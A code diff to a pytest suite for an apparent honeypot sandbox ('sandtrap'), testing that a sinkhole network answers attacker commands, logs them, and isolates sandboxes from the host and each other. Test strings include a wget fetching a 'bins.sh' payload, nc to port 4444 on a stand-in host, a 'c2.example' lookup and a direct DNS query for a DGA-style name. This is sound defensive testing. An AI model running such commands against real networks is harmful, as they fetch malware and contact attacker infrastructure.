@@ -21,11 +21,24 @@ import pytest
 
 from sandtrap.network.image import build_sinkhole
 from sandtrap.sandbox.sinknet import bridge_name, network_name
-from tests.docker.service import RunningService, remove_sensor_containers, service_config
+from tests.docker.service import (
+    SSH_OPTS,
+    RunningService,
+    remove_sensor_containers,
+    service_config,
+)
 
 pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]
 
 SINKHOLE_IMAGE = "sandtrap/sinkhole:12"
+# A DNS query straight to a public resolver, as malware with its own resolver sends it.
+DIRECT_DNS = (
+    'python3 -c "'
+    "import socket, struct; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+    "s.settimeout(3); q = struct.pack('!6H', 7, 256, 1, 0, 0, 0) + b'\\x03dga\\x07example"
+    "\\x00' + struct.pack('!HH', 1, 1); s.sendto(q, ('8.8.8.8', 53)); "
+    "print('direct-dns', s.recvfrom(512)[1])\""
+)
 
 
 def _wait_events(
@@ -43,7 +56,7 @@ def _wait_events(
 @pytest.fixture(scope="module")
 def sinkholed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningService]:
     build_sinkhole(SINKHOLE_IMAGE)
-    subnet = f"10.{random.randint(120, 250)}.0.0/16"  # noqa: S311 - avoids stale networks' subnets
+    subnet = f"10.{random.randint(120, 250)}.0.0/16"
     config = service_config(
         tmp_path_factory.mktemp("var"),
         pool={"size": 2, "max_sandboxes": 6},
@@ -76,7 +89,7 @@ def test_attacker_commands_behave_like_a_network_and_become_events(
         "curl -s https://example.com/x; echo curl=$?; "
         "getent hosts c2.example; echo getent=$?; "
         "echo hello | timeout 3 nc 198.51.100.9 4444; echo nc=$?; "
-        "ip route; cat /etc/resolv.conf; ip -o addr show eth0"
+        "ip route; cat /etc/resolv.conf; ip -o addr show eth0; " + DIRECT_DNS
     )
     out = proc.stdout.decode()
     assert "#!/bin/sh" in out and "wget=0" in out, out
@@ -84,6 +97,7 @@ def test_attacker_commands_behave_like_a_network_and_become_events(
     assert "getent=0" in out and "c2.example" in out, out
     assert "default via" in out and "nameserver" in out and "127.0.0.11" not in out, out
     assert " inet6 " not in out, out
+    assert "direct-dns ('8.8.8.8', 53)" in out, out  # answered from the address asked
     session = _session_of(sinkholed, "wget -q -O- http://203.0.113.7/bins.sh")
     mine = lambda e: e["session"] == session  # noqa: E731
     http = _wait_events(sinkholed, "network.http", mine)[0]
@@ -151,11 +165,14 @@ def test_nothing_reaches_the_host_or_leaves_it(sinkholed: RunningService) -> Non
     sensor = sinkholed.config.sensor
     subnet = sinkholed.config.sandbox.sinkhole.subnet
     bridge = bridge_name(sensor)
-    table = f"sandtrap_sinktest_{random.randint(0, 1 << 30)}"  # noqa: S311
+    table = f"sandtrap_sinktest_{random.randint(0, 1 << 30)}"
     # Counting only, in our own table: packets from the sandboxes' subnet that the host receives
     # itself, or routes out of any interface other than the sinkhole's bridge; and, to show the
     # counters see the sandboxes' packets at all, those bridged to the sinkhole (br_netfilter).
-    _nft("-f", "-", stdin=f"""
+    _nft(
+        "-f",
+        "-",
+        stdin=f"""
 table inet {table} {{
   chain c_in {{ type filter hook input priority -300; policy accept;
     ip saddr {subnet} counter
@@ -167,7 +184,8 @@ table inet {table} {{
     ip saddr {subnet} oifname != "{bridge}" counter
     ip saddr {subnet} oifname "{bridge}" counter
   }}
-}}""")
+}}""",
+    )
     listener = _HostListener()
     try:
         targets = [*_host_addresses(), "172.17.0.1", "10.0.0.1", "192.168.0.1"]
@@ -206,3 +224,40 @@ table inet {table} {{
     finally:
         listener.close()
         subprocess.run(["nft", "delete", "table", "inet", table], capture_output=True, check=False)
+
+
+def _sandbox_ip(sensor: str, session: str) -> str:
+    out = subprocess.run(
+        ["docker", "ps", "--filter", f"label=sandtrap.sensor={sensor}", "--filter",
+         f"name=sandtrap-s-{session}", "--format", "{{.ID}}"],
+        capture_output=True, text=True, check=True,
+    ).stdout.split()  # fmt: skip
+    inspected = subprocess.run(
+        ["docker", "inspect", "-f", "{{json .NetworkSettings.Networks}}", out[0]],
+        capture_output=True, text=True, check=True,
+    ).stdout  # fmt: skip
+    return str(next(iter(json.loads(inspected).values()))["IPAddress"])
+
+
+def test_sandboxes_cannot_reach_each_other(sinkholed: RunningService) -> None:
+    """One bridge, but no broadcast ARP from sandboxes: they resolve only the gateway."""
+    argv = ["sshpass", "-p", "123456", "ssh", "-p", str(sinkholed.port)]
+    server = subprocess.Popen(
+        [*argv, *SSH_OPTS, "root@127.0.0.1", "python3 -m http.server 8000 & sleep 25; echo a-done"],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+    )  # fmt: skip
+    try:
+        session_a = _session_of(sinkholed, "python3 -m http.server 8000")
+        address = _sandbox_ip(sinkholed.config.sensor, session_a)
+        time.sleep(1)
+        proc = sinkholed.ssh(
+            f"curl -s -m 3 http://{address}:8000/ >/dev/null; echo peer=$?; "
+            "curl -s -m 3 -o /dev/null http://203.0.113.7/; echo sink=$?; ip neigh"
+        )
+        out = proc.stdout.decode()
+        assert "sink=0" in out, out
+        assert "peer=0" not in out and "peer=" in out, out
+        assert f"{address} dev eth0 FAILED" in out or f"{address} dev eth0 INCOMPLETE" in out, out
+    finally:
+        server.kill()
+        server.communicate(timeout=10)
